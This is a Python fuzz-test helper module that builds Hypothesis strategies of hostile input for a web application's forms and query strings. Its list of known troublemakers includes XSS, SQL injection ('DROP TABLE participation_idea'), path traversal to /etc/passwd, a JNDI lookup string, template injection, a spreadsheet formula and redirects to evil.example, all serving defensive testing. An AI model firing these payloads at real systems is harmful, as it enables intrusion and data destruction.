"""Hostile input for the fuzz tests: what a bot, a curious citizen or a broken
phone keyboard sends.

`hostile_text()` mixes Hypothesis' own text with a fixed list of known
troublemakers (superscript and full-width digits, right-to-left marks,
combining accents, NUL bytes, markup and SQL payloads, huge and negative
numbers, very long strings). `raw_query_values()` adds byte sequences that
are not valid UTF-8 (lone surrogates encoded as CESU-8, truncated sequences),
sent percent-encoded in the raw query string, which is the only way a
surrogate can reach the server.
"""

import os
from functools import cache

from hypothesis import settings
from hypothesis import strategies as st

# HYPOTHESIS_PROFILE=thorough: ten times the examples of the CI run.
SCALE = 10 if os.environ.get("HYPOTHESIS_PROFILE") == "thorough" else 1


def budget(n):
    """@budget(100): n examples per CI run (n × 10 with the thorough profile)."""
    return settings(max_examples=n * SCALE)


# A marker that only appears in a response if markup was echoed unescaped.
MARKUP = '<b data-fuzz="1">x</b><script>alert("fuzz")</script>'
UNESCAPED_MARKERS = ('data-fuzz="1"', '<script>alert("fuzz")')

TROUBLEMAKERS = [
    "",
    " ",
    "\t\n\r",
    "0",
    "00012",
    "-1",
    "-0",
    "+5",
    "1.5",
    "1e3",
    "1e309",
    "NaN",
    "inf",
    "0x1A",
    "5_200",
    "9" * 30,
    "-" + "9" * 30,
    "9" * 5000,
    "²",
    "5²00",
    "¹²³",
    "½",
    "Ⅻ",
    "１２３",  # full-width digits
    "٥٢٠٠",  # Arabic-Indic digits
    "५२००",  # Devanagari digits
    "𝟓𝟐𝟎𝟎",  # mathematical bold digits
    "\u200f5200",  # right-to-left mark
    "\u202e0025",  # right-to-left override
    "\u200b",  # zero-width space
    "\ufeff5200",  # byte-order mark
    "e\u0301\u0301\u0301",  # stacked combining accents
    "Toluca\u0301",
    "NEZAHUALCÓYOTL",
    "ñÑ",
    "\x00",
    "52\x0000",
    "\x7f\x1b[2J",
    "😀" * 50,
    "a" * 10_000,
    MARKUP,
    '"><svg onload=alert(1)>',
    "' OR '1'='1' --",
    "1; DROP TABLE participation_idea; --",
    "%00",
    "%2e%2e%2f",
    "../../etc/passwd",
    "${jndi:ldap://x}",
    "{{ 7*7 }}{% debug %}",
    '=HYPERLINK("http://x")',
    "javascript:alert(1)",
    "//evil.example/",
    "http://evil.example/",
    "\\\\evil.example",
    "true",
    "null",
    "[]",
    "{}",
]


# Strategies are built once per shape and shared: a strategy built anew inside a
# test (data.draw(...) per example) is validated anew at each draw, which was a
# fifth of the idea form's fuzz test.
@cache
def hostile_text(max_size=300):
    return st.one_of(
        st.sampled_from(TROUBLEMAKERS),
        st.text(max_size=max_size),
        st.text(alphabet=st.characters(codec="utf-8"), max_size=40),
        st.integers().map(str),
        st.builds(lambda a, b: a + b, st.sampled_from(TROUBLEMAKERS), st.text(max_size=20)),
    )


# Byte sequences that are not valid UTF-8: the server must decode them somehow.
RAW_BYTES = [
    "%ED%A0%80",  # a lone high surrogate, CESU-8
    "%ED%BF%BF",  # a lone low surrogate
    "%C0%AF",  # overlong "/"
    "%FF%FE",
    "%E2%82",  # truncated
    "%00",
    "%",
    "%G1",
    "%%%",
]


def raw_query_values():
    """Percent-encoded values to put in QUERY_STRING as they are."""
    return st.one_of(
        st.sampled_from(RAW_BYTES),
        st.lists(st.sampled_from(RAW_BYTES + ["5", "a", "+"]), min_size=1, max_size=6).map("".join),
    )


def mostly(valid, other, weight=3):
    """`valid` about `weight` times as often as `other` (to reach the accepting paths too)."""
    return st.integers(0, weight).flatmap(lambda i: other if i == weight else valid)


def param_lists(names, values=None):
    """A query as a list of (name, value): missing, repeated and unknown names."""
    values = hostile_text() if values is None else values
    name = st.one_of(st.sampled_from(list(names)), st.text(max_size=10))
    return st.lists(st.tuples(name, values), max_size=8)
